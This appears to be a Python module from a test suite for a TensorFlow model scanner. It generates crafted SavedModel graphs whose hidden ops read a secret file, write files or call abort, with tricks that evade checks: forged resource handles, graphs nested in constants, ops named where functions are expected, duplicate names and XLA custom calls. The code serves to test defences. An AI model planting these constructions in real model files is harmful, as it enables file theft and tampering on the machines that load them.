"""Handles and programs hidden in values, and ops that stand where a function is expected."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tensorflow.core.framework import tensor_pb2

from hostile.attacks import ATTACK, ATTACKS, Targets
from hostile.graphs import (
    FLOAT,
    INT32,
    INT64,
    RESOURCE,
    STRING,
    UINT8,
    VARIANT,
    Body,
    FromCaller,
    Function,
    add_input,
    add_output,
    attr_entry,
    attr_value,
    base_model,
    doubling_model,
    field,
    finish,
    hidden_graph,
    shape_proto,
    varint,
)
from hostile.hiding_places import PLACES, hostile_function
from hostile.model_files import Model
from hostile.tricks import trick
from hostile.writing_attacks import write_file


def _writes(targets: Targets) -> Any:
    """Return a MetaGraph whose output writes a file."""
    return PLACES["control_edge"].hide(ATTACKS["WriteFile"], targets).metas[0]


# --- handles --------------------------------------------------------------------------------------


def _handle(name: str) -> Any:
    tensor = tensor_pb2.TensorProto(dtype=RESOURCE, tensor_shape=shape_proto([]))
    tensor.resource_handle_val.add(
        device="/job:localhost/replica:0/task:0/device:CPU:0", container="localhost", name=name
    )
    return tensor


def _variant(type_name: str, *tensors: Any, metadata: bytes = b"") -> Any:
    outer = tensor_pb2.TensorProto(dtype=VARIANT, tensor_shape=shape_proto([]))
    outer.variant_val.add(type_name=type_name, metadata=metadata, tensors=tensors)
    return outer


_FORGED: dict[str, Any] = {
    "tensor_list": _variant("tensorflow::TensorList", _handle("v")),
    "tensor": _variant("tensorflow::Tensor", _handle("v")),
    "optional": _variant("tensorflow::data::Optional", _handle("v")),
    "nested": _variant("tensorflow::TensorList", _variant("tensorflow::TensorList", _handle("v"))),
    "array": _variant("tensorflow::TensorMap", _handle("v"), _handle("v")),
}


def _forged(tensor: Any) -> Callable[[Targets], Model]:
    def build(targets: Targets) -> Model:
        meta = base_model()
        graph = Body(meta.graph_def)
        graph.const_proto("list", tensor)
        index, shape = graph.const("index", 0, INT32), graph.const("sizes", [], INT32)
        item = graph.add("item", "TensorListGetItem", "list", index, shape, element_dtype=RESOURCE)
        graph.add("is_there", "VarIsInitializedOp", item)
        return Model((finish(meta, "is_there"),))

    return build


for _name, _tensor in _FORGED.items():
    trick(f"handle_in_a_variant_{_name}")(_forged(_tensor))


@trick()
def handle_in_a_serialized_variant(targets: Targets) -> Model:
    meta = base_model()
    graph = Body(meta.graph_def)
    content = graph.const("bytes", _FORGED["tensor_list"].SerializeToString())
    graph.add("list", "ParseTensor", content, out_type=VARIANT)
    index, shape = graph.const("index", 0, INT32), graph.const("sizes", [], INT32)
    graph.add("item", "TensorListGetItem", "list", index, shape, element_dtype=RESOURCE)
    graph.add("is_there", "VarIsInitializedOp", "item")
    return Model((finish(meta, "is_there"),))


@trick()
def handle_in_a_compressed_element(targets: Targets) -> Model:
    """UncompressElement parses tensors, handles among them, from a variant's bytes."""
    handle = _handle("v").SerializeToString()
    # CompressedElement of dataset.proto: data (snappy), and a component of dtype resource.
    snappy = varint(len(handle)) + bytes([(len(handle) - 1) << 2 & 0xFF]) + handle
    component = (
        varint(1 << 3) + varint(RESOURCE) + field(2, b"") + varint(3 << 3) + varint(len(handle))
    )
    element = field(1, snappy) + field(2, component)
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.const_proto("packed", _variant("tensorflow.data.CompressedElement", metadata=element))
    graph.add("item", "UncompressElement", "packed", output_types=[RESOURCE], output_shapes=[[]])
    graph.add("is_there", "VarIsInitializedOp", "item")
    return Model((finish(meta, "is_there"),))


@trick()
def handle_as_the_default_of_an_input(targets: Targets) -> Model:
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.const_proto("forged", _handle("v"))
    graph.add("h", "PlaceholderWithDefault", "forged", dtype=RESOURCE, shape=[])
    graph.add("is_there", "VarIsInitializedOp", "h")
    return Model((finish(meta, "is_there"),))


@trick()
def handle_from_bitcast(targets: Targets) -> Model:
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.const("numbers", [1], UINT8)
    graph.add("forged", "Bitcast", "numbers", T=UINT8, type=RESOURCE)
    graph.add("is_there", "VarIsInitializedOp", "forged")
    return Model((finish(meta, "is_there"),))


# --- graphs in constants --------------------------------------------------------------------------


def _program(nested: int, in_content: bool, second: bool) -> Callable[[Targets], Model]:
    """Return a trick that runs a GraphDef whose op the user has allowed, but not what it does."""

    def build(targets: Targets) -> Model:
        def dataset(body: Body) -> None:
            write_file(body, targets)
            bounds = [body.const(f"b{i}", value, INT64) for i, value in enumerate((0, 1, 1))]
            kinds = {"output_types": [INT64], "output_shapes": [[]]}
            body.add("range", "RangeDataset", *bounds, f"^{ATTACK}", **kinds)
            body.add("root", "_Retval", "range", T=VARIANT, index=0)

        graph_bytes = hidden_graph(dataset)
        for _ in range(nested):
            outer = graph_bytes
            graph_bytes = hidden_graph(lambda body, inner=outer: _dataset_from(body, inner))
        meta = base_model()
        graph = Body(meta.graph_def)
        strings = [b"just text", graph_bytes] if second else graph_bytes
        graph.const("program", strings)
        if in_content:
            tensor = graph.nodes[-1].attr["value"].tensor
            values = list(tensor.string_val)
            del tensor.string_val[:]
            tensor.tensor_content = b"".join(varint(len(v)) for v in values) + b"".join(values)
        source = "program"
        if second:
            begin, size = graph.const("begin", [1], INT32), graph.const("size", [1], INT32)
            graph.add("slice", "Slice", "program", begin, size, T=STRING, Index=INT32)
            source = graph.add("one", "Squeeze", "slice", T=STRING)
        graph.add("dataset", "DatasetFromGraph", source)
        kinds = {"output_types": [INT64], "output_shapes": [[]]}
        graph.add("element", "DatasetToSingleElement", "dataset", **kinds)
        return Model((finish(meta, "element"),))

    return build


def _dataset_from(body: Body, graph: bytes) -> None:
    body.const("program", graph)
    body.add("inner", "DatasetFromGraph", "program")
    body.add("root", "_Retval", "inner", T=VARIANT, index=0)


_ALLOWED = {"allow_ops": ["DatasetFromGraph"]}
trick("program_in_a_constant", **_ALLOWED)(_program(0, False, False))
trick("program_in_a_program", **_ALLOWED)(_program(2, False, False))
trick("program_in_tensor_content", **_ALLOWED)(_program(0, True, False))
trick("program_in_the_second_string", **_ALLOWED)(_program(0, False, True))
trick("program_in_content_in_the_second_string", **_ALLOWED)(_program(0, True, True))


@trick()
def three_thousand_graphs_in_each_other(targets: Targets) -> Model:
    content = hidden_graph(lambda body: body.add("n", "NoOp"))
    for _ in range(3000):
        content = field(
            1,
            field(1, b"c") + field(2, b"Const") + attr_entry(b"value", field(8, field(8, content))),
        )
    meta = base_model()
    Body(meta.graph_def).const("program", content)
    return Model((finish(meta, "program"),))


# --- primitive ops as functions -------------------------------------------------------------------


@trick()
def read_file_as_a_function(targets: Targets) -> Model:
    """A call names the op ReadFile where a function is expected."""
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.const("path", targets.secret.encode())
    kinds = {"Tin": [STRING], "Tout": [STRING], "f": "ReadFile"}
    graph.add("leak", "StatefulPartitionedCall", "path", **kinds)
    add_output(meta, "leak:0", "leak", STRING, ())
    return Model((finish(meta, "leak"),))


@trick()
def print_as_a_function(targets: Targets) -> Model:
    """A map names the op PrintV2 with the attribute that makes it write a file."""
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.const("text", b"printed")
    printing = Function("PrintV2", {"output_stream": f"file://{targets.written}"})
    graph.add("call", "StatefulPartitionedCall", "text", Tin=[STRING], Tout=[], f=printing)
    return Model((finish(meta, "call"),))


@trick()
def stream_from_the_caller(targets: Targets) -> Model:
    """A function prints to a stream that its caller names."""
    meta = base_model()
    graph = Body(meta.graph_def)
    body = graph.function("say", [("a", FLOAT)], {"r": ("i:output:0", FLOAT)}, [("to", "string")])
    body.const("text", b"printed")
    body.add(ATTACK, "PrintV2", "text:output:0", output_stream=FromCaller("to"))
    body.add("i", "Identity", "a", f"^{ATTACK}", T=FLOAT)
    body.always_runs(ATTACK)
    call = Function("say", {"to": f"file://{targets.written}"})
    graph.add("y", "StatefulPartitionedCall", "mul", Tin=[FLOAT], Tout=[FLOAT], f=call)
    return Model((add_output(meta, "y:0"),))


@trick()
def dtype_from_the_caller(targets: Targets) -> Model:
    """A function parses a tensor whose dtype, a handle, its caller names."""
    meta = base_model()
    graph = Body(meta.graph_def)
    body = graph.function("parse", [("a", FLOAT)], {"r": ("i:output:0", FLOAT)}, [("T", "type")])
    body.const("bytes", _handle("v").SerializeToString())
    body.add("parsed", "ParseTensor", "bytes:output:0", out_type=FromCaller("T"))
    body.add("is_there", "VarIsInitializedOp", "parsed:output:0")
    body.add("i", "Identity", "a", "^is_there", T=FLOAT)
    call = Function("parse", {"T": attr_value(RESOURCE, "type")})
    graph.add("y", "StatefulPartitionedCall", "mul", Tin=[FLOAT], Tout=[FLOAT], f=call)
    return Model((add_output(meta, "y:0"),))


@trick()
def harmless_function_named_like_the_attack(targets: Targets) -> Model:
    """The library has a harmless WriteFile, and a node asks for TensorFlow's."""
    meta = base_model()
    hostile_function(meta, None, targets, "WriteFile")
    write_file(Body(meta.graph_def), targets)
    return Model((finish(meta, ATTACK),))


@trick()
def list_of_functions_from_the_caller(targets: Targets) -> Model:
    """The branches of a Case are an attribute that the caller fills in."""
    meta = base_model()
    graph = Body(meta.graph_def)
    hostile_function(meta, ATTACKS["WriteFile"], targets)
    attrs = [("fs", "list(func)")]
    body = graph.function("choose", [("a", FLOAT)], {"r": ("c:output:0", FLOAT)}, attrs)
    body.const("index", 0, INT32)
    kinds: dict[str, Any] = {"Tin": [FLOAT], "Tout": [FLOAT]}
    body.add("c", "Case", "index:output:0", "a", branches=FromCaller("fs"), **kinds)
    body.always_runs("c")
    call = Function("choose", {"fs": attr_value(["evil"], "list(func)")})
    graph.add("y", "StatefulPartitionedCall", "mul", f=call, **kinds)
    return Model((add_output(meta, "y:0"),))


@trick()
def function_twice_in_the_library(targets: Targets) -> Model:
    """Two functions of one name, of which a reader may keep the last."""
    meta = PLACES["function"].hide(ATTACKS["WriteFile"], targets).metas[0]
    hostile_function(meta, None, targets)
    return Model((meta,))


@trick()
def function_twice_hostile_last(targets: Targets) -> Model:
    meta = PLACES["function"].hide(ATTACKS["WriteFile"], targets).metas[0]
    hostile_function(meta, None, targets)
    meta.graph_def.library.function.add().CopyFrom(meta.graph_def.library.function[0])
    del meta.graph_def.library.function[0]
    return Model((meta,))


@trick()
def gradient_twice_in_the_library(targets: Targets) -> Model:
    meta = PLACES["custom_gradient"].hide(ATTACKS["WriteFile"], targets).metas[0]
    hostile_function(meta, None, targets, "fine", takes=(FLOAT, FLOAT))
    meta.graph_def.library.gradient.add(function_name="harmless", gradient_func="fine")
    return Model((meta,))


@trick()
def node_twice(targets: Targets) -> Model:
    """Two nodes of one name: a reader may keep the harmless one."""
    meta = _writes(targets)
    Body(meta.graph_def).add(ATTACK, "NoOp")
    return Model((meta,))


@trick()
def fed_and_still_run(targets: Targets) -> Model:
    """An input feeds the attack's own output, but a control edge runs the attack all the same."""
    meta = base_model()
    graph = Body(meta.graph_def)
    graph.add(ATTACK, "ReadFile", graph.const("path", targets.secret.encode()))
    add_input(meta, "s", f"{ATTACK}:0", dtype=STRING)
    return Model((finish(meta, ATTACK),))


@trick()
def signature_whose_output_is_the_attack(targets: Targets) -> Model:
    meta = doubling_model()
    graph = Body(meta.graph_def)
    graph.add(ATTACK, "ReadFile", graph.const("path", targets.secret.encode()))
    return Model((add_output(meta, f"{ATTACK}:0", "leak", STRING, ()),))


@trick()
def output_in_a_sparse_signature(targets: Targets) -> Model:
    """The attack is one of the tensors of a sparse output."""
    meta = doubling_model()
    graph = Body(meta.graph_def)
    graph.add(ATTACK, "ReadFile", graph.const("path", targets.secret.encode()))
    graph.add("values", "ExpandDims", ATTACK, graph.const("axis", 0, INT32), T=STRING, Tdim=INT32)
    graph.const("indices", [[0, 0]], INT64)
    graph.const("dense", [2, 1], INT64)
    info = meta.signature_def["serving_default"].outputs["leak"]
    info.dtype = STRING
    info.tensor_shape.CopyFrom(shape_proto([-1, -1]))
    info.coo_sparse.values_tensor_name = "values:0"
    info.coo_sparse.indices_tensor_name = "indices:0"
    info.coo_sparse.dense_shape_tensor_name = "dense:0"
    return Model((meta,))


def xla_call(target: str, version: str = "") -> Callable[[Targets], Model]:
    """Return a trick in which XLA calls a symbol of the process."""

    def build(targets: Targets) -> Model:
        module = f"""
module @m {{
  func.func public @main(%arg0: tensor<2xf32>) -> tensor<2xf32> {{
    %0 = stablehlo.custom_call @{target}(%arg0) {{has_side_effect = true{version}}}
      : (tensor<2xf32>) -> tensor<2xf32>
    return %0 : tensor<2xf32>
  }}
}}
"""
        meta = base_model()
        graph = Body(meta.graph_def)
        body = graph.function("evil", [("a", FLOAT)], {"r": ("c:output:0", FLOAT)})
        body.add(
            "c",
            "XlaCallModule",
            "a",
            version=9,
            module=module.encode(),
            Sout=[[2]],
            Tout=[FLOAT],
            Tin=[FLOAT],
            platforms=["CPU"],
            function_list=[],
            has_token_input_output=False,
            disabled_checks=[],
            dim_args_spec=[],
        )
        graph.add("y", "PartitionedCall", "mul", Tin=[FLOAT], Tout=[FLOAT], f="evil")
        graph.nodes[-1].attr["_XlaMustCompile"].b = True
        return Model((add_output(meta, "y:0"),))

    return build


trick("xla_calls_a_symbol")(xla_call("abort"))
trick("xla_calls_a_symbol_that_returns_a_status")(xla_call("abort", ", api_version = 2 : i32"))
trick("xla_calls_a_typed_symbol")(xla_call("abort", ", api_version = 4 : i32"))


@trick()
def config_of_a_call(targets: Targets) -> Model:
    """A call carries a session's configuration, and an executor, of nonsense."""
    meta = base_model()
    hostile_function(meta, None, targets, "good")
    Body(meta.graph_def).add(
        "y",
        "StatefulPartitionedCall",
        "mul",
        Tin=[FLOAT],
        Tout=[FLOAT],
        f="good",
        config_proto=b"\xff\xfe\xfd",
        executor_type="NO_SUCH_EXECUTOR",
    )
    return Model((add_output(meta, "y:0"),))
